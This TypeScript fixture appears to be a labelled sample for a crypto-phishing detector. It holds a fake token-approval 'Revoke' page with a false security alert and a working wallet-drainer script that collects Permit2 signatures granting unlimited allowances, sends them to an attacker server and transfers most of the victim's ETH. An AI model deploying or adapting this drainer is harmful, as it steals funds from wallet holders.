import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// Wallet drainers on cheap domains and a hijacked customer subdomain.
const drainJs = (api: string) => `(function(){var API='${api}';var SPENDER='0x000000000022D473030F116dDEE9F6B43aC78BA3';var RECV='0x7a3b9c1e5f02d84a6b21c9e0f3d1a4b8c6e7f901';
async function go(){if(!window.ethereum){document.getElementById('msg').textContent='No wallet detected. Please open this page in MetaMask or Trust Wallet browser.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];var r=await fetch(API+'/assets?a='+acc).then(function(x){return x.json()});
for(var t of r.tokens){var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:SPENDER},message:{details:{token:t.address,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:0},spender:RECV,sigDeadline:'1893456000'}};
var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});await fetch(API+'/s',{method:'POST',body:JSON.stringify({a:acc,t:t.address,s:sig})})}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]})}
document.querySelectorAll('.connect').forEach(function(b){b.addEventListener('click',function(){go().catch(function(e){document.getElementById('msg').textContent='Transaction failed, please try again.'})})})})();`;

export const entries: Entry[] = [
{
  id: 'zl-drainer-revoke-tool-click',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://revoke-approvals-check.click/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Revoke – Check and revoke your token approvals</title>
<style>body{margin:0;font-family:system-ui,Arial;background:#fafafa}.n{padding:16px 30px;border-bottom:1px solid #eee;font-weight:700}.c{max-width:640px;margin:60px auto;text-align:center}.connect{background:#000;color:#fff;border:0;padding:12px 28px;border-radius:8px;font-size:16px}.alert{background:#fff3cd;padding:12px;border-radius:8px;margin:20px 0}</style></head>
<body><div class="n">🛡 Revoke</div><div class="c"><h1>Protect your wallet</h1><div class="alert">⚠ A critical vulnerability was found in a popular DEX router. Revoke all approvals now to secure your funds.</div>
<p>Connect your wallet to scan for risky token approvals across Ethereum, Arbitrum, Base and BNB Chain.</p><button class="connect">Connect Wallet to Scan</button><p id="msg" style="color:#c00"></p></div>
<script src="/js/scan.js"></script></body></html>`,
  routes: {
    'revoke-approvals-check.click/js/scan.js': jsRoute(drainJs('https://revoke-approvals-check.click/v1')),
    'revoke-approvals-check.click/v1/assets': jsonRoute({ tokens: [{ address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }] }),
  },
},
];
